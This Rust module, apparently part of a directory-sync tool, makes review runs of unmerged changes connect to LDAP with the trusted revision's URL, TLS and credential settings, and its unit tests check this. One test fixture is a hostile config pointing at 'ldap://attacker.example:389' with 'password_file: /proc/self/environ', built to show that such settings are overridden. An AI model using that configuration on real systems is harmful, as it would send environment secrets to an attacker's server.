//! Connections come from trusted config (DESIGN.md, "Trust"). A review run (`plan
//! --base REV`, `plan --trusted-rev REV`) reads a head revision nobody has merged yet,
//! with the directory's credentials in its environment. The head's LDAP sources are
//! therefore read with the connection and credential settings of the trusted revision:
//! `url`, `starttls`, `ca_file` (its bytes read from that revision too),
//! `insecure_skip_tls_verify`, and the bind (`bind_dn`, `password_env`, `password_file`,
//! `anonymous`). What to read (base DN, scope, filter, attributes, paging, timeouts)
//! stays the head's: that is the change under review. An LDAP source the trusted
//! revision does not have is not read at all.
//!
//! [`use_trusted_connections`] works on loaded configs only: it opens no connection and
//! reads no file but the trusted revision's CA files, through the caller's closure.

use std::error::Error;
use std::path::{Path, PathBuf};

use super::settings::{Config, LdapSettings, SourceLocation};
pub use registrar_core::effect::{SourceTrust, TrustedReading};

/// A source's CA file cannot be read at the trusted revision: the review cannot connect
/// as the trusted config says, so it does not connect at all.
#[derive(Debug, thiserror::Error)]
#[error("source {source_name}: ca_file {} at the trusted revision: {reason}", path.display())]
pub struct TrustedFileError {
    pub source_name: String,
    pub path: PathBuf,
    #[source]
    pub reason: Box<dyn Error + Send + Sync>,
}

/// Replaces the connection settings of every LDAP source of `head` with those of the
/// same-named LDAP source of `trusted` (`None`: the trusted revision has no config
/// directory), and drops the LDAP sources `trusted` does not have, so that they are not
/// read. `read_trusted_file` reads a file of the trusted revision (a CA file). Returns
/// one note per source whose reading differs from the head's config, in name order.
pub fn use_trusted_connections<E: Error + Send + Sync + 'static>(
    head: &mut Config,
    trusted: Option<&Config>,
    read_trusted_file: &dyn Fn(&Path) -> Result<Vec<u8>, E>,
) -> Result<Vec<SourceTrust>, TrustedFileError> {
    let mut notes = Vec::new();
    let mut kept = Vec::with_capacity(head.sources.len());
    for mut source in std::mem::take(&mut head.sources) {
        let SourceLocation::Ldap(settings) = &mut source.location else {
            kept.push(source);
            continue;
        };
        let trusted_settings = trusted
            .and_then(|config| config.source(&source.name))
            .and_then(|trusted| match &trusted.location {
                SourceLocation::Ldap(settings) => Some(settings),
                SourceLocation::Ldif { .. } => None,
            });
        let Some(trusted_settings) = trusted_settings else {
            notes.push(SourceTrust {
                source: source.name.clone(),
                reading: TrustedReading::NotRead,
            });
            continue;
        };
        if !same_connection(settings, trusted_settings) {
            notes.push(SourceTrust {
                source: source.name.clone(),
                reading: TrustedReading::TrustedSettings,
            });
        }
        settings.url = trusted_settings.url.clone();
        settings.starttls = trusted_settings.starttls;
        settings.insecure_skip_tls_verify = trusted_settings.insecure_skip_tls_verify;
        settings.bind = trusted_settings.bind.clone();
        settings.ca_file = trusted_settings.ca_file.clone();
        settings.ca_pem = match &trusted_settings.ca_file {
            Some(path) => Some(read_trusted_file(path).map_err(|reason| TrustedFileError {
                source_name: source.name.clone(),
                path: path.clone(),
                reason: Box::new(reason),
            })?),
            None => None,
        };
        kept.push(source);
    }
    head.sources = kept;
    Ok(notes)
}

/// Whether two LDAP sources connect and authenticate alike.
fn same_connection(a: &LdapSettings, b: &LdapSettings) -> bool {
    a.url == b.url
        && a.starttls == b.starttls
        && a.ca_file == b.ca_file
        && a.insecure_skip_tls_verify == b.insecure_skip_tls_verify
        && a.bind == b.bind
}

#[cfg(test)]
mod tests {
    use std::path::{Path, PathBuf};

    use super::*;
    use crate::config::load::load_texts;
    use crate::config::settings::{ConfigText, LdapBind, PasswordFrom};

    fn config(yaml: &str) -> Config {
        load_texts(
            vec![ConfigText {
                path: PathBuf::from("registrar/sources.yaml"),
                text: yaml.to_string(),
            }],
            &|_| Ok(()),
        )
        .unwrap()
    }

    fn ldap_source(name: &str, url: &str, bind_dn: &str, extra: &str) -> String {
        format!(
            "  - name: {name}\n    ldap:\n      url: {url}\n      bind_dn: {bind_dn}\n      \
             password_env: LDAP_PASSWORD\n      base_dn: dc=example,dc=com\n{extra}"
        )
    }

    fn settings<'c>(config: &'c Config, name: &str) -> &'c LdapSettings {
        match &config.source(name).unwrap().location {
            SourceLocation::Ldap(settings) => settings,
            SourceLocation::Ldif { .. } => panic!("{name} is not an LDAP source"),
        }
    }

    fn no_files(path: &Path) -> Result<Vec<u8>, std::io::Error> {
        Err(std::io::Error::other(format!(
            "unexpected read of {}",
            path.display()
        )))
    }

    #[test]
    fn a_changed_connection_is_read_with_the_trusted_settings_and_the_heads_search() {
        let trusted = config(&format!(
            "sources:\n{}",
            ldap_source(
                "corp",
                "ldaps://dc1.corp.example",
                "cn=svc,dc=example,dc=com",
                ""
            )
        ));
        let mut head = config(&format!(
            "sources:\n{}",
            ldap_source(
                "corp",
                "ldap://attacker.example:389",
                "cn=admin,dc=example,dc=com",
                "      filter: (objectClass=person)\n      password_file: /proc/self/environ\n"
            )
            .replace("      password_env: LDAP_PASSWORD\n", "")
        ));
        let notes = use_trusted_connections(&mut head, Some(&trusted), &no_files).unwrap();
        assert_eq!(
            notes,
            vec![SourceTrust {
                source: "corp".into(),
                reading: TrustedReading::TrustedSettings
            }]
        );
        let read = settings(&head, "corp");
        assert_eq!(read.url, "ldaps://dc1.corp.example");
        assert_eq!(
            read.bind,
            LdapBind::Simple {
                dn: "cn=svc,dc=example,dc=com".into(),
                password: PasswordFrom::Env("LDAP_PASSWORD".into()),
            }
        );
        assert_eq!(
            read.filter, "(objectClass=person)",
            "the head's search stays"
        );
        assert!(notes[0]
            .message()
            .contains("read with the trusted revision's settings"));
    }

    #[test]
    fn a_new_ldap_source_is_not_read_and_unchanged_ones_get_no_note() {
        let trusted = config(&format!(
            "sources:\n{}",
            ldap_source(
                "corp",
                "ldaps://dc1.corp.example",
                "cn=svc,dc=example,dc=com",
                ""
            )
        ));
        let mut head = config(&format!(
            "sources:\n{}{}  - name: hr\n    ldif:\n      path: hr.ldif\n",
            ldap_source(
                "corp",
                "ldaps://dc1.corp.example",
                "cn=svc,dc=example,dc=com",
                ""
            ),
            ldap_source("evil", "ldap://127.0.0.9", "cn=svc,dc=example,dc=com", ""),
        ));
        let notes = use_trusted_connections(&mut head, Some(&trusted), &no_files).unwrap();
        assert_eq!(
            notes,
            vec![SourceTrust {
                source: "evil".into(),
                reading: TrustedReading::NotRead
            }]
        );
        let names: Vec<&str> = head.sources.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(
            names,
            ["corp", "hr"],
            "ldif sources stay; the new LDAP one goes"
        );
        assert!(notes[0].message().contains("not read until merged"));
        // No trusted config at all (the base predates the config directory).
        let mut head = config(&format!(
            "sources:\n{}",
            ldap_source(
                "corp",
                "ldaps://dc1.corp.example",
                "cn=svc,dc=example,dc=com",
                ""
            )
        ));
        let notes = use_trusted_connections(&mut head, None, &no_files).unwrap();
        assert_eq!(notes[0].reading, TrustedReading::NotRead);
        assert!(head.sources.is_empty());
    }

    #[test]
    fn the_ca_file_is_read_from_the_trusted_revision() {
        let trusted = config(&format!(
            "sources:\n{}",
            ldap_source(
                "corp",
                "ldaps://dc1.corp.example",
                "cn=svc,dc=example,dc=com",
                "      ca_file: ca.pem\n"
            )
        ));
        let mut head = config(&format!(
            "sources:\n{}",
            ldap_source(
                "corp",
                "ldaps://dc1.corp.example",
                "cn=svc,dc=example,dc=com",
                "      ca_file: ca.pem\n"
            )
        ));
        let read = |path: &Path| {
            assert_eq!(path, Path::new("registrar/ca.pem"));
            Ok::<_, std::io::Error>(b"trusted CA".to_vec())
        };
        let notes = use_trusted_connections(&mut head, Some(&trusted), &read).unwrap();
        assert!(notes.is_empty());
        assert_eq!(
            settings(&head, "corp").ca_pem.as_deref(),
            Some(&b"trusted CA"[..])
        );
        let failing = |_: &Path| Err(std::io::Error::other("not found"));
        let error = use_trusted_connections(&mut head, Some(&trusted), &failing).unwrap_err();
        assert_eq!(
            error.to_string(),
            "source corp: ca_file registrar/ca.pem at the trusted revision: not found"
        );
        assert_eq!(error.reason.to_string(), "not found");
    }
}
